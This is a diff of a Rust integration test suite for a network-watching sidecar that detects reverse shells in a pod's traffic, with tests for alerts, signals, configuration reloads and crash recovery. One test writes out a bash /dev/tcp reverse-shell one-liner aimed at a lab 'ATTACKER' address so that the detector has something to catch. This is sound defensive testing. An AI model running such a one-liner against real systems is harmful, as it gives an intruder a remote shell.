@@ -2,140 +2,33 @@
 //! stays silent beside harmless traffic, and ends in time.
 #![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]
 
-use std::fs::{self, File};
+#[path = "support/lab.rs"]
+mod lab;
+
+use std::fs;
 use std::io::Write;
-use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Stdio};
-use std::sync::atomic::{AtomicU32, Ordering};
+use std::path::Path;
+use std::process::{Command, Stdio};
 use std::thread;
 use std::time::{Duration, Instant};
 
-const VETHWATCH: &str = env!("CARGO_BIN_EXE_vethwatch");
-static LABS: AtomicU32 = AtomicU32::new(0);
+use lab::{Lab, VETHWATCH, ip, within};
+
 const ATTACKER: &str = "10.213.7.2";
 
-/// Two namespaces, a pod's and another's, with a veth pair between them. Gone with this value.
-struct Lab {
-    pod: String,
-    other: String,
-    folder: tempfile::TempDir,
-    children: Vec<Child>,
+fn watch(lab: &mut Lab, records: &Path) -> usize {
+    let records = records.to_str().unwrap().to_owned();
+    watch_with(lab, &["--output", &records])
 }
 
-fn ip(arguments: &str) {
-    let done = Command::new("ip").args(arguments.split(' ')).output().unwrap();
-    assert!(done.status.success(), "ip {arguments}: {}", String::from_utf8_lossy(&done.stderr));
-}
-
-impl Lab {
-    fn new() -> Self {
-        let (id, n) = (std::process::id(), LABS.fetch_add(1, Ordering::Relaxed));
-        let (pod, other) = (format!("vethwatch-p{id}-{n}"), format!("vethwatch-o{id}-{n}"));
-        ip(&format!("netns add {pod}"));
-        let lab = Self { pod, other, folder: tempfile::tempdir().unwrap(), children: Vec::new() };
-        ip(&format!("netns add {}", lab.other));
-        lab.connect("10.213.7.1/24");
-        lab
-    }
-
-    /// Gives both an interface.
-    fn connect(&self, address: &str) {
-        let Self { pod, other, .. } = self;
-        ip(&format!("link add eth0 netns {pod} type veth peer name eth0 netns {other}"));
-        for (namespace, address) in [(pod, address), (other, "10.213.7.2/24")] {
-            ip(&format!("-n {namespace} addr add {address} dev eth0"));
-            ip(&format!("-n {namespace} link set lo up"));
-            ip(&format!("-n {namespace} link set eth0 up"));
-        }
-    }
-
-    /// Starts a program in a namespace. It ends with this value.
-    fn start(&mut self, namespace: &str, program: &mut Command) -> usize {
-        let mut inside = Command::new("ip");
-        inside.args(["netns", "exec", namespace]).arg(program.get_program());
-        inside.args(program.get_args());
-        for (name, value) in program.get_envs() {
-            inside.env(name, value.unwrap_or_default());
-        }
-        inside.stdin(Stdio::piped()).stdout(Stdio::piped());
-        let log = File::create(self.path(&format!("log{}", self.children.len()))).unwrap();
-        self.children.push(inside.stderr(log).spawn().unwrap());
-        self.children.len() - 1
-    }
-
-    fn path(&self, name: &str) -> PathBuf {
-        self.folder.path().join(name)
-    }
-
-    fn watch(&mut self, records: &Path) -> usize {
-        let records = records.to_str().unwrap().to_owned();
-        self.watch_with(&["--output", &records])
-    }
-
-    fn watch_with(&mut self, arguments: &[&str]) -> usize {
-        let namespace = self.pod.clone();
-        let watcher = self.start(
-            &namespace,
-            Command::new(VETHWATCH)
-                .args(["sidecar", "--format", "eve"])
-                .args(arguments)
-                .env("POD_NAME", "web-0")
-                .env("POD_NAMESPACE", "shop"),
-        );
-        let log = self.path(&format!("log{watcher}"));
-        until(Duration::from_secs(10), || {
-            fs::read_to_string(&log).is_ok_and(|log| log.contains("watching eth0"))
-        });
-        watcher
-    }
-
-    /// Ends the watcher as a kubelet does, and tells how long it took.
-    fn end(&mut self, watcher: usize) -> Duration {
-        let (code, took) = self.end_by("-TERM", watcher);
-        assert_eq!(code, Some(0), "{}", self.log(watcher));
-        took
-    }
-
-    /// Ends the watcher by a signal, and tells its exit code and how long it took.
-    fn end_by(&mut self, signal: &str, watcher: usize) -> (Option<i32>, Duration) {
-        let begin = Instant::now();
-        self.signal(signal, watcher);
-        let code = self.children[watcher].wait().unwrap().code();
-        (code, begin.elapsed())
-    }
-
-    fn signal(&self, signal: &str, program: usize) {
-        // `ip netns exec` becomes the program that it runs, so the number is the program's.
-        let id = self.children[program].id().to_string();
-        assert!(
-            Command::new("sh").args(["-c", "kill $0 $1", signal, &id]).status().unwrap().success()
-        );
-    }
-
-    /// What a program said on standard error.
-    fn log(&self, program: usize) -> String {
-        fs::read_to_string(self.path(&format!("log{program}"))).unwrap_or_default()
-    }
-
-    fn hears(&self, program: usize, text: &str) {
-        until(Duration::from_secs(10), || self.log(program).contains(text));
-    }
-
-    fn python(&mut self, namespace: &str, script: &str) -> usize {
-        self.start(namespace, Command::new("python3").args(["-c", script]))
-    }
-}
-
-impl Drop for Lab {
-    fn drop(&mut self) {
-        for child in &mut self.children {
-            let _ = child.kill();
-            let _ = child.wait();
-        }
-        for namespace in [&self.pod, &self.other] {
-            let _ = Command::new("ip").args(["netns", "del", namespace]).output();
-        }
-    }
+/// Nobody reads what a watcher writes on standard output.
+fn watch_with(lab: &mut Lab, arguments: &[&str]) -> usize {
+    let mut command = within(&lab.pod, VETHWATCH);
+    command.args(["sidecar", "--format", "eve"]).args(arguments);
+    command.env("POD_NAME", "web-0").env("POD_NAMESPACE", "shop");
+    let watcher = lab.start_into(Stdio::piped(), &mut command);
+    lab.hears(watcher, "watching eth0");
+    watcher
 }
 
 /// Waits until it is so, and returns how long it took.
@@ -194,14 +87,14 @@ fn alerts(records: &Path) -> Vec<serde_json::Value> {
 fn finds_a_shell_while_it_is_used() {
     let mut lab = Lab::new();
     let records = lab.path("records.json");
-    let watcher = lab.watch(&records);
+    let watcher = watch(&mut lab, &records);
     let (pod, other) = (lab.pod.clone(), lab.other.clone());
     let listener = lab.python(&other, LISTEN);
     let heard = lab.path(&format!("log{listener}"));
     let heard = || fs::read_to_string(&heard).unwrap_or_default();
     until(Duration::from_secs(10), || heard().contains("listening"));
     let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
-    lab.start(&pod, Command::new("bash").args(["-c", &shell]));
+    lab.start(within(&pod, "bash").args(["-c", &shell]));
     thread::sleep(Duration::from_secs(1));
     let mut typing = lab.children[listener].stdin.take().unwrap();
     typing.write_all(b"id\n").unwrap();
@@ -212,7 +105,7 @@ fn finds_a_shell_while_it_is_used() {
     assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
     assert_eq!(alert["kubernetes"]["namespace"], "shop", "{alert}");
     assert_eq!(alert["dest_ip"], ATTACKER, "{alert}");
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
 }
 
 #[test]
@@ -220,7 +113,7 @@ fn finds_a_shell_while_it_is_used() {
 fn stays_silent_beside_a_client() {
     let mut lab = Lab::new();
     let records = lab.path("records.json");
-    let watcher = lab.watch(&records);
+    let watcher = watch(&mut lab, &records);
     let (pod, other) = (lab.pod.clone(), lab.other.clone());
     let server = lab.python(&other, SERVE);
     let log = lab.path(&format!("log{server}"));
@@ -230,7 +123,7 @@ fn stays_silent_beside_a_client() {
     let client = lab.python(&pod, ASK);
     assert!(lab.children[client].wait().unwrap().success());
     thread::sleep(Duration::from_millis(500));
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
     assert!(alerts(&records).is_empty());
     // What was still open when it ended is written too.
     let text = fs::read_to_string(&records).unwrap();
@@ -244,10 +137,10 @@ fn a_reader_that_stopped_holds_up_neither_capture_nor_end() {
     let mut lab = Lab::new();
     let config = lab.path("config.toml");
     fs::write(&config, "[output]\nqueue_bytes = 65536\n").unwrap();
-    let watcher = lab.watch_with(&["--config", config.to_str().unwrap()]);
+    let watcher = watch_with(&mut lab, &["--config", config.to_str().unwrap()]);
     let pod = lab.pod.clone();
     // Some 2 MB of flow records at the end; nobody reads them.
-    let flood = lab.start(&pod, Command::new("python3").args(["-c", FLOOD, "3000", "10"]));
+    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "3000", "10"]));
     assert!(lab.children[flood].wait().unwrap().success());
     let (code, took) = lab.end_by("-TERM", watcher);
     assert!(took < Duration::from_secs(2), "{took:?}");
@@ -269,11 +162,12 @@ fn says_what_each_interface_passed_and_dropped() {
     )
     .unwrap();
     let paths = [&records, &config].map(|path| path.to_str().unwrap().to_owned());
-    let watcher = lab.watch_with(&["--output", &paths[0], "--config", &paths[1], "--loopback"]);
+    let watcher =
+        watch_with(&mut lab, &["--output", &paths[0], "--config", &paths[1], "--loopback"]);
     // What comes while it is stopped does not fit into its buffer.
     lab.signal("-STOP", watcher);
     let pod = lab.pod.clone();
-    let flood = lab.start(&pod, Command::new("python3").args(["-c", FLOOD, "4000", "1400"]));
+    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "4000", "1400"]));
     assert!(lab.children[flood].wait().unwrap().success());
     lab.signal("-CONT", watcher);
     let written = || of_kind(&fs::read_to_string(&records).unwrap_or_default(), "stats");
@@ -284,7 +178,7 @@ fn says_what_each_interface_passed_and_dropped() {
         [&eth0["passed_frames"], &eth0["kernel_dropped_frames"]].map(|n| n.as_u64().unwrap())
     };
     until(Duration::from_secs(5), || written().last().is_some_and(|last| dropped(last)[1] > 0));
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
     let all = written();
     assert!(all.iter().any(|stats| stats["vethwatch"]["final"] == false));
     let last = all.last().unwrap();
@@ -299,7 +193,7 @@ fn says_what_each_interface_passed_and_dropped() {
 fn an_interrupt_ends_it_too() {
     let mut lab = Lab::new();
     let records = lab.path("records.json");
-    let watcher = lab.watch(&records);
+    let watcher = watch(&mut lab, &records);
     let (code, took) = lab.end_by("-INT", watcher);
     assert_eq!(code, Some(0), "{}", lab.log(watcher));
     assert!(took < Duration::from_secs(2), "{took:?}");
@@ -311,14 +205,16 @@ fn an_interrupt_ends_it_too() {
 fn says_what_it_lacks_at_the_start() {
     let mut lab = Lab::new();
     let pod = lab.pod.clone();
-    let wrong = lab.start(&pod, Command::new(VETHWATCH).args(["sidecar", "--interface", "eth7"]));
+    let wrong = lab.start(within(&pod, VETHWATCH).args(["sidecar", "--interface", "eth7"]));
     assert_eq!(lab.children[wrong].wait().unwrap().code(), Some(2));
     assert!(lab.log(wrong).contains("eth7: no such interface; there are: "), "{}", lab.log(wrong));
     let bare = ["--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--clear-groups"];
-    let bare = lab.start(
-        &pod,
-        Command::new("setpriv").args(bare).args([VETHWATCH, "sidecar", "--interface", "eth0"]),
-    );
+    let bare = lab.start(within(&pod, "setpriv").args(bare).args([
+        VETHWATCH,
+        "sidecar",
+        "--interface",
+        "eth0",
+    ]));
     assert_eq!(lab.children[bare].wait().unwrap().code(), Some(2));
     assert!(lab.log(bare).contains("NET_RAW"), "{}", lab.log(bare));
 }
@@ -330,7 +226,7 @@ fn reads_its_configuration_again() {
     let (records, config) = (lab.path("records.json"), lab.path("config.toml"));
     fs::write(&config, "[output]\nstats_interval_s = 0\n").unwrap();
     let paths = [&records, &config].map(|path| path.to_str().unwrap().to_owned());
-    let watcher = lab.watch_with(&["--output", &paths[0], "--config", &paths[1]]);
+    let watcher = watch_with(&mut lab, &["--output", &paths[0], "--config", &paths[1]]);
     fs::write(&config, "[flow]\nflows_mx = 3\n").unwrap();
     lab.signal("-HUP", watcher);
     lab.hears(watcher, "did you mean `flows_max`?; the configuration before it stays in force");
@@ -347,7 +243,7 @@ fn reads_its_configuration_again() {
     lab.hears(watcher, "wait for the next start: flow.flows_max");
     let stats = || of_kind(&fs::read_to_string(&records).unwrap_or_default(), "stats");
     until(Duration::from_secs(5), || !stats().is_empty());
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
     let last = stats().pop().unwrap();
     assert_eq!(last["vethwatch"]["allow"][0]["conditions"], "port=4444", "{last}");
 }
@@ -372,7 +268,7 @@ fn a_crash_costs_the_last_interval_of_what_is_known_and_no_more() {
     let paths = [&state, &config].map(|path| path.to_str().unwrap().to_owned());
     let arguments = ["--events", "alert", "--state", &paths[0], "--config", &paths[1]];
     let (pod, other) = (lab.pod.clone(), lab.other.clone());
-    let watcher = lab.watch_with(&arguments);
+    let watcher = watch_with(&mut lab, &arguments);
     let server = lab.python(&other, SERVE);
     lab.hears(server, "listening");
     let client = lab.python(&pod, ASK);
@@ -382,25 +278,25 @@ fn a_crash_costs_the_last_interval_of_what_is_known_and_no_more() {
     assert_eq!(lab.end_by("-KILL", watcher).0, None);
     // As it would be, had it been killed in the midst of writing.
     fs::write(lab.path("state/web.new"), "{\"format\":\"veth").unwrap();
-    let watcher = lab.watch_with(&arguments);
+    let watcher = watch_with(&mut lab, &arguments);
     let client = lab.python(&pod, ASK);
     assert!(lab.children[client].wait().unwrap().success());
     thread::sleep(Duration::from_millis(500));
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
     assert_eq!(kept(&state), Some((first_seen, 10)), "written at the end: {}", lab.log(watcher));
     assert!(!lab.log(watcher).contains("state"), "{}", lab.log(watcher));
     let text = fs::read_to_string(&state).unwrap();
     fs::write(&state, &text[..text.len() - 9]).unwrap();
-    let watcher = lab.watch_with(&arguments);
+    let watcher = watch_with(&mut lab, &arguments);
     assert!(lab.log(watcher).contains("its checksum is wrong; it was set aside as"));
-    assert!(lab.end(watcher) < Duration::from_secs(2));
+    lab.end(watcher);
     let files = fs::read_dir(state.parent().unwrap()).unwrap();
     let mut files: Vec<_> = files.map(|file| file.unwrap().file_name()).collect();
     files.sort();
     let files: Vec<_> = files.iter().map(|name| name.to_str().unwrap()).collect();
     assert!(matches!(files[..], ["web", aside] if aside.starts_with("web.damaged-")), "{files:?}");
     let nowhere = lab.path("nowhere/state").to_str().unwrap().to_owned();
-    let failed = lab.start(&pod, Command::new(VETHWATCH).args(["sidecar", "--state", &nowhere]));
+    let failed = lab.start(within(&pod, VETHWATCH).args(["sidecar", "--state", &nowhere]));
     assert_eq!(lab.children[failed].wait().unwrap().code(), Some(2));
     lab.hears(failed, "check the path of the state (--state, state.path)");
 }
@@ -410,7 +306,7 @@ fn a_crash_costs_the_last_interval_of_what_is_known_and_no_more() {
 fn takes_up_an_interface_that_comes_back_and_ends_with_the_last() {
     let mut lab = Lab::new();
     let records = lab.path("records.json");
-    let watcher = lab.watch(&records);
+    let watcher = watch(&mut lab, &records);
     let pod = lab.pod.clone();
     ip(&format!("-n {pod} link set eth0 down"));
     lab.hears(watcher, "eth0: is down");
@@ -418,7 +314,7 @@ fn takes_up_an_interface_that_comes_back_and_ends_with_the_last() {
     lab.hears(watcher, "eth0: no longer watched");
     lab.connect("10.213.7.3/24");
     lab.hears(watcher, "watching eth0 too");
-    let flood = lab.start(&pod, Command::new("python3").args(["-c", FLOOD, "10", "10"]));
+    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "10", "10"]));
     assert!(lab.children[flood].wait().unwrap().success());
     let last = Duration::from_secs(1);
     thread::sleep(last);
@@ -442,7 +338,7 @@ fn an_interface_that_was_named_and_goes_is_no_end_of_the_pod() {
     let pod = lab.pod.clone();
     ip(&format!("link add eth1 netns {pod} type veth peer name eth1 netns {}", lab.other));
     ip(&format!("-n {pod} link set eth1 up"));
-    let watcher = lab.watch_with(&["--interface", "eth0"]);
+    let watcher = watch_with(&mut lab, &["--interface", "eth0"]);
     ip(&format!("-n {pod} link del eth0"));
     assert_eq!(lab.children[watcher].wait().unwrap().code(), Some(2), "{}", lab.log(watcher));
     assert!(lab.log(watcher).contains("the pod has other interfaces"), "{}", lab.log(watcher));
@@ -453,9 +349,9 @@ fn an_interface_that_was_named_and_goes_is_no_end_of_the_pod() {
 fn the_last_frames_of_an_interface_that_goes_are_heard() {
     let mut lab = Lab::new();
     let records = lab.path("records.json");
-    let watcher = lab.watch(&records);
+    let watcher = watch(&mut lab, &records);
     let pod = lab.pod.clone();
-    let sender = lab.start(&pod, Command::new("python3").args(["-c", FLOOD, "19", "100"]));
+    let sender = lab.start(within(&pod, "python3").args(["-c", FLOOD, "19", "100"]));
     assert!(lab.children[sender].wait().unwrap().success());
     // Within the time for which the kernel gathers frames.
     ip(&format!("-n {pod} link del eth0"));
@@ -484,14 +380,17 @@ fn a_full_disk_ends_no_capture_and_no_loss_is_silent() {
     let filler = disk.join("filler");
     fs::write(&filler, vec![0; 60 << 10]).unwrap();
     let (records, kept) = (disk.join("records"), disk.join("kept"));
-    let watcher = lab.watch_with(&[
-        "--output",
-        records.to_str().unwrap(),
-        "--write",
-        kept.to_str().unwrap(),
-        "--events",
-        "flow",
-    ]);
+    let watcher = watch_with(
+        &mut lab,
+        &[
+            "--output",
+            records.to_str().unwrap(),
+            "--write",
+            kept.to_str().unwrap(),
+            "--events",
+            "flow",
+        ],
+    );
     let other = lab.other.clone();
     let calls = "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
         for n in range(200): s.sendto(b'x'*200,('10.213.7.1',2000+n))";
